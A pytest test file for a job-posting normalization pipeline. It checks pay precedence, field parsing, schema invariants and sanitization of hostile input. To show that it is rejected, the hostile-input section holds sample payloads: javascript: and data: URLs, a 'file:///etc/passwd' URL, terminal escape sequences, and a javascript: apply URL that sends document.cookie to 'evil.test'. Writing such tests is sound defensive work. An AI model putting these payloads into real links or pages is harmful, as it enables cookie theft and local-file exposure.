"""End to end: ``pipeline.normalize.normalize`` / ``normalize_text`` -- precedence, provenance, unknown stays null,
big inputs, and schema invariants on random text."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.model import (
    EDUCATION_LEVELS,
    EMPLOYMENT_TYPES,
    PAY_KINDS,
    PAY_PERIODS,
    SENIORITIES,
    WORKPLACES,
    Posting,
)
from pipeline.normalize import CHUNK, normalize, normalize_many, normalize_text, normalize_texts
from pipeline.sources import MappingError
from tests.corpus import require_corpus


def greenhouse(content: str, *, metadata=None, location="Berlin, Germany", title="Senior Backend Engineer"):
    return {
        "source": "greenhouse",
        "board": "acme",
        "url": None,
        "payload": {
            "id": 4242,
            "title": title,
            "company_name": "Acme",
            "absolute_url": "https://boards.greenhouse.io/acme/jobs/4242",
            "location": {"name": location},
            "content": content,
            "metadata": metadata or [],
            "updated_at": "2026-05-01T12:00:00-04:00",
        },
    }


def pay_metadata(low: str, high: str, unit: str = "USD") -> list[dict]:
    return [
        {
            "id": 1,
            "name": "Salary Range",
            "value_type": "currency_range",
            "value": {"unit": unit, "min_value": low, "max_value": high},
        }
    ]


def test_structured_pay_beats_text_pay_and_provenance_is_recorded():
    posting = normalize(
        greenhouse(
            "&lt;p&gt;The base salary is $100,000 - $120,000 per year.&lt;/p&gt;",
            metadata=pay_metadata("150000.0", "180000.0"),
        )
    )
    assert (posting.pay.min, posting.pay.max, posting.pay.currency) == (150000.0, 180000.0, "USD")
    assert posting.provenance["pay"] == "structured"
    assert posting.pay_ranges[0] is posting.pay


def test_text_pay_is_used_when_no_structured_pay_and_says_so():
    posting = normalize(greenhouse("&lt;p&gt;The base salary is $100,000 - $120,000 per year.&lt;/p&gt;"))
    assert (posting.pay.min, posting.pay.max, posting.pay.period) == (100000.0, 120000.0, "year")
    assert posting.provenance["pay"] == "text"


def test_placeholder_structured_pay_falls_back_to_text():
    posting = normalize(
        greenhouse("<p>Salary: €60.000–75.000 per year</p>", metadata=pay_metadata("0.0", "0.0", "EUR"))
    )
    assert (posting.pay.min, posting.pay.max, posting.pay.currency) == (60000.0, 75000.0, "EUR")
    assert posting.provenance["pay"] == "text"


def remoteok(description: str, low: int, high: int) -> dict:
    return {
        "source": "remoteok",
        "board": "remoteok",
        "url": None,
        "payload": {
            "id": "1130001",
            "slug": "remote-backend-engineer-acme-1130001",
            "epoch": 1777000000,
            "date": "2026-04-24T03:06:40+00:00",
            "company": "Acme",
            "position": "Backend Engineer",
            "tags": ["python"],
            "description": description,
            "location": "",
            "salary_min": low,
            "salary_max": high,
            "url": "https://remoteok.com/remote-jobs/remote-backend-engineer-acme-1130001",
        },
    }


@pytest.mark.parametrize(
    ("description", "expected"),
    [
        # the poster typed zloty into Remote OK's USD fields: the text names the currency of these very figures
        ("<p>Salary Range: PLN 350,700 - 474,400 + Benefits</p>", ("PLN", "year", 350700.0)),
        ("<p>Pay: €3,000 - €4,000 per month</p>", ("EUR", "month", 36000.0)),
        ("<p>No pay stated here.</p>", ("USD", "year", 3000.0)),
    ],
)
def test_assumed_structured_currency_yields_to_the_text_for_the_same_figures(description, expected):
    low, high = (350700, 474400) if "PLN" in description else (3000, 4000)
    posting = normalize(remoteok(description, low, high))
    assert (posting.pay.currency, posting.pay.period, posting.pay.annual_min) == expected
    assert posting.provenance["pay"] == "structured"


@pytest.mark.parametrize(
    ("description", "low", "high", "expected"),
    [
        # the board's fields are "USD per year" whatever the poster meant; the text names its own currency/period
        ("<p>Rate: €2,800 - €3,900 per month, contractor</p>", 3000, 4000, (2800.0, 3900.0, "EUR", "month")),
        ("<p>We pay £52,000 - £61,000 a year.</p>", 65000, 77000, (52000.0, 61000.0, "GBP", "year")),
        ("<p>Hourly rate: $45 - $60 per hour (1099).</p>", 90000, 120000, (45.0, 60.0, "USD", "hour")),
    ],
)
def test_an_assumed_structured_pay_yields_to_an_explicit_currency_or_period_in_the_text(
    description, low, high, expected
):
    posting = normalize(remoteok(description, low, high))
    assert (posting.pay.min, posting.pay.max, posting.pay.currency, posting.pay.period) == expected
    assert posting.provenance["pay"] == "text"


def test_an_assumed_structured_pay_stays_when_the_text_agrees():
    posting = normalize(remoteok("<p>Salary: $95,000 - $120,000 per year.</p>", 90000, 120000))
    assert (posting.pay.min, posting.pay.currency, posting.pay.period) == (90000.0, "USD", "year")
    assert posting.provenance["pay"] == "structured"


def test_a_stated_currency_is_not_replaced_by_the_text():
    posting = normalize(
        greenhouse("<p>Salary: €150,000 - €180,000 per year</p>", metadata=pay_metadata("150000.0", "180000.0"))
    )
    assert posting.pay.currency == "USD"


@pytest.mark.parametrize(
    ("text", "field", "expected"),
    [
        # unknown stays null
        ("Backend Engineer\nWe build APIs.", "pay", None),
        ("Backend Engineer\nWe build APIs.", "workplace", None),
        ("Backend Engineer\nWe build APIs.", "education", None),
        ("Backend Engineer\nWe build APIs.", "experience_years_min", None),
        ("Backend Engineer\nWe build APIs.", "visa_sponsorship", None),
        ("Backend Engineer\nWe build APIs.", "relocation", None),
        ("Backend Engineer\nCompetitive salary, DOE.", "pay", None),
        # negations and perks are not remote
        ("Backend Engineer\nThis is not a remote role. You will work from our Berlin office.", "workplace", "onsite"),
        (
            "Backend Engineer\nWe are a remote-first company, but this role is on-site in Berlin.",
            "workplace",
            "onsite",
        ),
        ("Backend Engineer\nWork from anywhere for 4 weeks a year.", "workplace", None),
        ("Backend Engineer\nThis is a fully remote position (US only).", "workplace", "remote"),
        # the rest, end to end
        ("Senior Backend Engineer\nWe build APIs.", "seniority", "senior"),
        ("Backend Engineer\nYou have 5+ years of experience with Go.", "experience_years_min", 5),
        ("Backend Engineer\nBachelor's degree in CS or equivalent experience.", "education", "bachelor"),
        ("Backend Engineer\nBachelor's degree in CS or equivalent experience.", "education_equivalent", True),
        ("Backend Engineer\nJob Type: Full-time", "employment_type", "full_time"),
        ("Backend Engineer\nWe do not offer visa sponsorship.", "visa_sponsorship", False),
    ],
)
def test_normalize_text_fields(text, field, expected):
    posting = normalize_text(text)
    assert getattr(posting, field) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Backend Engineer\nThis is not a remote role.",
        "Backend Engineer\nPlease note this is not a remote role.",
        "Backend Engineer\nThis position is not remote.",
        "Backend Engineer\nRemote-first culture, this role is on-site.",
    ],
)
def test_not_a_remote_role_is_not_remote(text):
    assert normalize_text(text).workplace != "remote"
    assert normalize_text(text, location="Berlin, Germany").workplace != "remote"


def test_title_is_the_first_line_and_html_is_read():
    posting = normalize_text("<h1>Staff Platform Engineer</h1><p>Pay: $90 - $110 per hour</p>")
    assert posting.title == "Staff Platform Engineer"
    assert (posting.pay.min, posting.pay.max, posting.pay.period) == (90.0, 110.0, "hour")
    assert posting.provenance["pay"] == "text"
    assert posting.seniority == "staff"


def test_the_hiring_company_is_not_its_own_skill():
    raw = greenhouse("<p>Build MongoDB's cloud with Go and PostgreSQL.</p>")
    raw["payload"]["company_name"] = "MongoDB, Inc."
    posting = normalize(raw)
    assert "MongoDB" not in posting.skills
    assert {"Go", "PostgreSQL"} <= set(posting.skills)
    text = "Backend Engineer\nWe run MongoDB and PostgreSQL."
    assert "MongoDB" not in normalize_text(text, company="MongoDB").skills
    assert "MongoDB" in normalize_text(text, company="Acme").skills


def test_text_before_a_block_element_is_its_own_line():
    posting = normalize(greenhouse("Location: Berlin | Hybrid<p>Pay: $90 - $110 per hour</p>"))
    assert posting.description_text.splitlines()[:2] == ["Location: Berlin | Hybrid", "Pay: $90 - $110 per hour"]
    assert (posting.pay.min, posting.pay.max, posting.pay.period) == (90.0, 110.0, "hour")


def test_location_with_country():
    posting = normalize_text("Backend Engineer\nWe build APIs.", location="Berlin, Germany")
    assert [loc.country for loc in posting.locations] == ["DE"]
    assert posting.provenance["locations"] == "text"


@pytest.mark.parametrize(
    "unit",
    [
        "<p>We pay $120-150k. Remote (US only). 5+ years of Python and PostgreSQL.</p><ul><li>BS in CS</li></ul>",
        "$1-$2 - 3 to 4k USD € ((((( 1,1,1,1,1 remote not remote hybrid 5+ years of of of BS/MS ",
        "a" * 1000 + " ",
        "<div>" * 50 + "x" + "</div>" * 50,
    ],
)
def test_a_one_megabyte_posting_returns(unit):
    text = "Senior Backend Engineer\n" + unit * (1_000_000 // len(unit))
    posting = normalize_text(text)
    assert isinstance(posting, Posting)
    json.dumps(posting.to_dict())


def check_invariants(posting: Posting) -> None:
    data = posting.to_dict()
    json.dumps(data)  # JSON-serializable
    assert posting.workplace in (None, *WORKPLACES)
    assert posting.seniority in (None, *SENIORITIES)
    assert posting.employment_type in (None, *EMPLOYMENT_TYPES)
    assert posting.education in (None, *EDUCATION_LEVELS)
    assert posting.visa_sponsorship in (None, True, False)
    assert posting.relocation in (None, True, False)
    lo, hi = posting.experience_years_min, posting.experience_years_max
    assert lo is None or lo >= 0
    assert lo is None or hi is None or lo <= hi
    if posting.pay is not None:
        assert posting.pay_ranges and posting.pay_ranges[0] is posting.pay
    for pr in posting.pay_ranges:
        assert pr.min is not None or pr.max is not None
        assert pr.min is None or pr.max is None or pr.min <= pr.max
        assert pr.annual_min is None or pr.annual_max is None or pr.annual_min <= pr.annual_max
        assert pr.currency is None or (len(pr.currency) == 3 and pr.currency.isalpha() and pr.currency.isupper())
        assert pr.period in (None, *PAY_PERIODS)
        assert pr.kind in PAY_KINDS
    for loc in posting.locations:
        assert loc.country is None or (len(loc.country) == 2 and loc.country.isupper())
    assert set(posting.skill_evidence) <= set(posting.skills)
    assert len(posting.skills) == len(set(posting.skills))


WORDS = st.sampled_from(
    [
        "$",
        "€",
        "£",
        "USD",
        "EUR",
        "k",
        "K",
        "120",
        "150,000",
        "1.5",
        "-",
        "–",
        "to",
        "per",
        "hour",
        "year",
        "/hr",
        "p.a.",
        "up",
        "from",
        "DOE",
        "OTE",
        "bonus",
        "equity",
        "remote",
        "not",
        "a",
        "role",
        "hybrid",
        "on-site",
        "office",
        "Berlin",
        "Germany",
        "US",
        "only",
        "EMEA",
        "UTC+3",
        "Senior",
        "Sr.",
        "Staff",
        "intern",
        "years",
        "5+",
        "3-5",
        "experience",
        "Bachelor's",
        "MS",
        "PhD",
        "or",
        "equivalent",
        "degree",
        "full-time",
        "contract",
        "Job",
        "Type:",
        "Pay:",
        "visa",
        "sponsorship",
        "relocation",
        "Python",
        "Go",
        "C#",
        "Node.js",
        "k8s",
        "\n",
        "\n\n",
        "(",
        ")",
        ":",
        ",",
        ".",
        "<p>",
        "</p>",
        "<li>",
        "&amp;",
        "İ",
        "ſ",
    ]
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(WORDS, max_size=60).map(" ".join), st.text(max_size=200))
def test_random_text_obeys_the_schema(words, noise):
    check_invariants(normalize_text(words + noise))
    check_invariants(normalize_text(noise + "\n" + words, location=noise[:40] or None))


# --- hostile input at the mapper boundary (docs/operations.md, "Hostile input") ------------------------------
HOSTILE_CONTROLS = "".join(chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), 0x7F, 0x85, 0x9B))
_CONTROL_SET = set(HOSTILE_CONTROLS)


def greenhouse_raw(**payload) -> dict:
    return {
        "source": "greenhouse",
        "board": "acme",
        "external_id": "1",
        "url": payload.get("absolute_url"),
        "payload": {"id": 1, "title": "Backend Engineer", "content": "<p>Go and PostgreSQL.</p>", **payload},
    }


def test_control_characters_leave_every_text_of_a_posting():
    raw = greenhouse_raw(
        title=f"Senior\x00 Backend{HOSTILE_CONTROLS}Engineer\x1b[31m",
        company_name=f"Acme{HOSTILE_CONTROLS} Inc",
        location={"name": "Berlin,\x0b Germany\x07"},
        departments=[{"name": "Platform\x1b"}],
        content=f"<p>We use Go\x00 and PostgreSQL.{HOSTILE_CONTROLS}</p><ul><li>Kafka\x1f</li></ul>Salary\x08 $150k",
        absolute_url="https://example.test/jobs/1",
    )
    posting = normalize(raw)
    assert posting.title == "Senior Backend Engineer[31m"
    assert posting.company == "Acme Inc"
    for value in (
        posting.title,
        posting.company,
        posting.department,
        posting.description_text,
        *(loc.raw for loc in posting.locations),
        *posting.skill_evidence.values(),
        *(r.raw or "" for r in posting.pay_ranges),
    ):
        assert value is not None and not _CONTROL_SET & set(value), repr(value)
    assert "\n" in posting.description_text  # line breaks stay
    assert {"Go", "PostgreSQL"} <= set(posting.skills)


@pytest.mark.parametrize(
    ("title", "content", "skill"),
    [
        ("Back\u00adend Engineer", "<p>We run Kuber\u00adnetes clusters.</p>", "Kubernetes"),
        ("Backend\u200b Engineer", "<p>\u200b\u200bPost\u200bgreSQL and Go.</p>", "PostgreSQL"),
        ("\ufeffBackend Engineer", "<p>Services in Ka\u2060fka.</p>", "Apache Kafka"),
    ],
)
def test_invisible_characters_do_not_split_words(title, content, skill):
    posting = normalize(greenhouse_raw(title=title, content=content))
    assert posting.title == "Backend Engineer"
    assert skill in posting.skills
    for ch in "\u200b\u2060\ufeff\u00ad":
        assert ch not in posting.description_text and ch not in posting.title


def test_zero_width_joiners_stay():
    """They are not separators: Persian and emoji need them."""
    text = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f4bb"
    posting = normalize(greenhouse_raw(content=f"<p>Go. {text}</p>"))
    assert text in posting.description_text


def test_a_plain_text_description_loses_its_control_characters():
    text = f"Backend Engineer\x1b]8;;http://evil.test\x07\nWe use Go.\x00\r\nRemote.{HOSTILE_CONTROLS}"
    posting = normalize_text(text)
    assert posting.title == "Backend Engineer]8;;http://evil.test"
    assert not _CONTROL_SET & set(posting.description_text)


@pytest.mark.parametrize(
    ("absolute_url", "expected"),
    [
        ("https://boards.greenhouse.io/acme/jobs/1", "https://boards.greenhouse.io/acme/jobs/1"),
        (" https://boards.greenhouse.io/acme/jobs/1 ", "https://boards.greenhouse.io/acme/jobs/1"),
        ("javascript:alert(document.cookie)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("file:///etc/passwd", None),
        ("vbscript:msgbox(1)", None),
        ("//evil.test/jobs/1", None),
        ("/jobs/1", None),
    ],
)
def test_only_http_urls_become_url_and_apply_url(absolute_url, expected):
    raw = greenhouse_raw(absolute_url=absolute_url)
    posting = normalize(raw)
    assert (posting.url, posting.apply_url, posting.sources[0].url) == (expected, expected, expected)
    assert raw["payload"]["absolute_url"] == absolute_url  # the raw value stays in the payload


def test_a_hostile_apply_url_falls_back_to_the_posting_url():
    payload = {
        "id": "abc",
        "text": "Backend Engineer",
        "hostedUrl": "https://jobs.lever.co/acme/abc",
        "applyUrl": "javascript:fetch('//evil.test?'+document.cookie)",
        "categories": {},
        "descriptionPlain": "Go services.",
    }
    posting = normalize({"source": "lever", "board": "acme", "external_id": "abc", "url": None, "payload": payload})
    assert (posting.url, posting.apply_url) == ("https://jobs.lever.co/acme/abc", "https://jobs.lever.co/acme/abc")


def test_a_jsonld_javascript_url_falls_back_to_the_page():
    job = {"@type": "JobPosting", "title": "Backend Engineer", "identifier": "7", "url": "javascript:alert(1)"}
    payload = {"page_url": "https://careers.example.test/jobs/7", "jobposting": job}
    raw = {"source": "jsonld", "board": "careers.example.test", "external_id": "7", "url": job["url"]}
    posting = normalize({**raw, "payload": payload})
    assert posting.url == posting.apply_url == "https://careers.example.test/jobs/7"


# Issue 19: the board's company display name, and the company the text names.
LEVER_PAYLOAD = {
    "id": "1b2c3d4e-0000-4000-8000-000000000001",
    "text": "Backend Engineer",
    "categories": {"location": "Stockholm", "commitment": "Full-time"},
    "descriptionPlain": "Build the ledger in Kotlin.",
    "hostedUrl": "https://jobs.lever.co/northwind/1b2c3d4e-0000-4000-8000-000000000001",
}


@pytest.mark.parametrize(
    ("raw_company", "argument", "expected"),
    [
        (None, None, "northwind"),  # no display name: the board token, as before
        (None, "Northwind Traders", "Northwind Traders"),
        ("Northwind Traders", None, "Northwind Traders"),  # a "company" key of the raw posting
    ],
)
def test_board_display_name_replaces_the_token(raw_company, argument, expected):
    raw = {"source": "lever", "board": "northwind", "external_id": LEVER_PAYLOAD["id"], "payload": LEVER_PAYLOAD}
    if raw_company:
        raw["company"] = raw_company
    assert normalize(raw, company=argument).company == expected


def test_company_the_payload_names_wins_over_the_display_name():
    from pipeline.normalize import company_for

    assert company_for("Polar Labs", "polarlabs-careers", "Polar") == "Polar Labs"
    assert company_for("polarlabs", "polarlabs", "Polar Labs") == "Polar Labs"
    assert company_for(None, "polarlabs", "  ") is None


def test_text_names_its_company_when_none_is_given():
    posting = normalize_text("Backend Engineer\nAt Brightwater, we build tidal turbines in Rust.")
    assert posting.company == "Brightwater"
    assert normalize_text("Backend Engineer\nWe build turbines.").company is None


# --- normalize_many: the same postings, stage by stage over chunks -----------------------------------------------
def _many_cases() -> list[dict]:
    contents = [
        "&lt;p&gt;We pay $120,000 - $150,000 a year. Remote in the US.&lt;/p&gt;",
        "&lt;ul&gt;&lt;li&gt;5+ years with Go and PostgreSQL&lt;/li&gt;&lt;li&gt;BS in CS&lt;/li&gt;&lt;/ul&gt;",
        "&lt;p&gt;Hybrid, three days in our Berlin office. Visa sponsorship is available.&lt;/p&gt;",
        "&lt;p&gt;At Acme, we build payment rails in Rust. Contract role, 6 months.&lt;/p&gt;",
        "",
    ]
    cases = [greenhouse(c, title=t) for c in contents for t in ("Senior Backend Engineer", "Staff SRE (Kubernetes)")]
    return cases * 4  # more postings than one chunk


def test_normalize_many_gives_what_normalize_gives_in_order():
    raws = _many_cases()
    many = normalize_many(raws)
    assert len(many) == len(raws) > CHUNK
    assert [p.to_dict() for p in many] == [normalize(raw).to_dict() for raw in raws]


def test_normalize_many_returns_each_failure_in_its_postings_place(monkeypatch):
    import pipeline.normalize as module

    raws = _many_cases()[:6]
    raws[1] = {"source": "greenhouse", "board": "acme", "url": None, "payload": {}}  # unreadable
    raws[3] = greenhouse("&lt;p&gt;a posting the education parser chokes on&lt;/p&gt;")
    real = module.parse_education

    def choking(text: str):
        if "chokes" in text:
            raise RuntimeError("education parser bug")
        return real(text)

    monkeypatch.setattr(module, "parse_education", choking)
    out = normalize_many(raws)
    assert isinstance(out[1], MappingError) and isinstance(out[3], RuntimeError)
    with pytest.raises(RuntimeError):
        normalize(raws[3])
    kept = [i for i in range(len(raws)) if i not in (1, 3)]
    assert [out[i].to_dict() for i in kept] == [normalize(raws[i]).to_dict() for i in kept]


@pytest.mark.corpus
def test_normalize_many_gives_what_normalize_gives_on_the_corpus():
    from bench.corpus import load_corpus

    raws = load_corpus(require_corpus()).postings
    assert len(raws) > 500
    assert [p.to_dict() for p in normalize_many(raws)] == [normalize(raw).to_dict() for raw in raws]


# --- normalize_texts: jobscout normalize --jsonl's records, stage by stage --------------------------------------
def _text_records() -> list[dict]:
    texts = [
        "<p>We pay $120,000 - $150,000 a year. Remote in the US.</p>",
        "5+ years with Go and PostgreSQL. BS in CS.\nHybrid, three days in our Berlin office.",
        "<ul><li>Contract role, 6 months</li><li>Rust and Kafka</li></ul>",
        "",
    ]
    records = [
        {"title": title, "description": text, "location": location, "company": company}
        for text in texts
        for title, location, company in (
            ("Senior Backend Engineer", "Berlin, Germany", "Acme"),
            ("", None, None),  # no title: a record's title stays empty (the first line is not read as one)
            ("Staff SRE (Kubernetes)", "Remote - US", None),
        )
    ]
    return records * 2  # more postings than one chunk


def test_normalize_texts_gives_what_normalize_text_gives_in_order():
    records = _text_records()
    many = normalize_texts(records)
    assert len(many) == len(records) > CHUNK
    expected = [
        normalize_text(r["description"], title=r["title"], location=r["location"], company=r["company"]).to_dict()
        for r in records
    ]
    assert [p.to_dict() for p in many] == expected


def test_normalize_texts_returns_a_failure_in_its_records_place(monkeypatch):
    import pipeline.normalize as module

    records = _text_records()[:5]
    records[2] = {"title": "Backend Engineer", "description": "a posting the skills parser chokes on"}
    real = module.extract_skills

    def choking(text: str, *args, **kwargs):
        if "chokes" in text:
            raise RuntimeError("skills parser bug")
        return real(text, *args, **kwargs)

    monkeypatch.setattr(module, "extract_skills", choking)
    out = normalize_texts(records)
    assert isinstance(out[2], RuntimeError)
    assert [type(p).__name__ for i, p in enumerate(out) if i != 2] == ["Posting"] * 4


@pytest.mark.parametrize(
    "statement",
    [
        "from pipeline import normalize; print(normalize.normalize_text('x', title='Backend Engineer').title)",
        "import pipeline; print(pipeline.normalize_text('x', title='Backend Engineer').title)",
        "from pipeline import normalize_texts; print(normalize_texts([{'title': 'Backend Engineer'}])[0].title)",
    ],
)
def test_the_package_names_its_entry_points_in_a_fresh_interpreter(statement):
    # A fresh interpreter, because the first import of pipeline.normalize is what used to recurse without end.
    done = subprocess.run([sys.executable, "-c", statement], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == "Backend Engineer"
